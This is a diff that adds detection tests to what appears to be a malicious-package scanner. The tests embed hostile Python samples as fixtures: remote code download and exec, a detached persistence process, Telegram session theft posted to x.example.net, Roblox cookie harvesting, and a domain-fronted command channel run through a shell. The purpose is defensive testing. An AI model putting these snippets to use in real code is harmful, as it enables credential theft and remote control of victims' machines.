@@ -17,8 +17,11 @@ from threatfeed.analysis.rules.concealment import (
 from threatfeed.analysis.rules.correlation import data_exfiltration_rule
 from threatfeed.analysis.rules.obfuscation import obfuscated_code_rule
 from threatfeed.analysis.rules.signature_rules import (
+    credential_harvesting_rule,
     decode_and_execute_rule,
     executes_code_at_remote_url_rule,
+    persistence_rule,
+    reverse_shell_rule,
 )
 
 HIDDEN_MODULES = zip_bytes(
@@ -308,3 +311,91 @@ def test_a_bot_url_spelled_in_base64_is_an_exfiltration_endpoint(engine: Engine)
     ]
     plain = sdist({"tidy_strings/b.py": f"B = '{site.decode()}'\n"})
     assert run_rule(engine, encoded_exfiltration_endpoint_rule, plain) is None
+
+
+def test_a_download_read_into_a_variable_then_executed_flags(engine: Engine) -> None:
+    code = (
+        "import urllib.request\n\n"
+        "def main(url):\n"
+        "    response = urllib.request.urlopen(url)\n"
+        "    code = response.read().decode()\n"
+        "    path = '/tmp/x.py'\n"
+        "    exec(compile(code, path, 'exec'), {})\n"
+    )
+    archive = sdist({"tidy_strings/loader.py": code})
+    assert run_rule(engine, executes_code_at_remote_url_rule, archive)
+    local = code.replace("urllib.request.urlopen(url)", "open(url, 'rb')")
+    assert (
+        run_rule(engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/l.py": local}))
+        is None
+    )
+
+
+def test_an_import_that_starts_python_on_inline_code_flags(engine: Engine) -> None:
+    init = (
+        "import subprocess\n\n"
+        "subprocess.Popen(['python3', '-c', 'from helper_cache import manager'], close_fds=True)\n"
+    )
+    archive = sdist({"tidy_strings/__init__.py": init})
+    assert run_rule(engine, persistence_rule, archive)
+    assert engine.analyze(archive).flagged
+
+
+def test_running_python_to_query_something_is_not_detached_code(engine: Engine) -> None:
+    probe = (
+        "import subprocess, sys\n\n"
+        "def has_numpy():\n"
+        "    return subprocess.run([sys.executable, '-c', 'import numpy']).returncode == 0\n"
+        "def version():\n"
+        "    return subprocess.Popen([sys.executable, '--version'], stdout=subprocess.PIPE)\n"
+    )
+    archive = sdist({"tidy_strings/probe.py": probe})
+    assert run_rule(engine, persistence_rule, archive) is None
+
+
+def test_telegram_desktop_sessions_searched_and_sent_are_exfiltration(engine: Engine) -> None:
+    code = (
+        "import os, requests\n\n"
+        "def scan(root):\n"
+        "    for r, dirs, files in os.walk(root):\n"
+        "        if 'tdata' in dirs:\n"
+        "            requests.post('https://x.example.net/u', files={'f': open(r, 'rb')})\n"
+    )
+    archive = sdist({"tidy_strings/scan.py": code})
+    assert run_rule(engine, data_exfiltration_rule, archive)
+    mention = "TDATA_HELP = 'tdata is the folder Telegram Desktop keeps its data in'\n"
+    assert (
+        run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/h.py": mention})) is None
+    )
+
+
+def test_roblox_cookie_read_from_the_browser_is_harvesting(engine: Engine) -> None:
+    code = (
+        "import browser_cookie3\n\n"
+        "for c in browser_cookie3.chrome(domain_name='roblox.com'):\n"
+        "    if c.name == '.ROBLOSECURITY':\n"
+        "        token = c.value\n"
+    )
+    assert run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/rb.py": code}))
+    client = "def login(session, cookie):\n    session.cookies['.ROBLOSECURITY'] = cookie\n"
+    assert (
+        run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/c.py": client})) is None
+    )
+
+
+def test_commands_run_through_a_fronted_cdn_are_a_command_channel(engine: Engine) -> None:
+    code = (
+        "import subprocess\nfrom urllib import request\n\n"
+        "FRONT = 'cdn.example.net'\n"
+        "def poll(url):\n"
+        "    r = request.Request(url, headers={'Host': FRONT})\n"
+        "    cmd = request.urlopen(r).read().decode()\n"
+        "    return subprocess.check_output(cmd, shell=True)\n"
+    ).replace("FRONT", "HOST_HEADER")
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/poll.py": code}))
+    proxy = (
+        "import requests\n\n"
+        "def fetch(url, host):\n"
+        "    return requests.get(url, headers={'Host': host})\n"
+    )
+    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/proxy.py": proxy})) is None
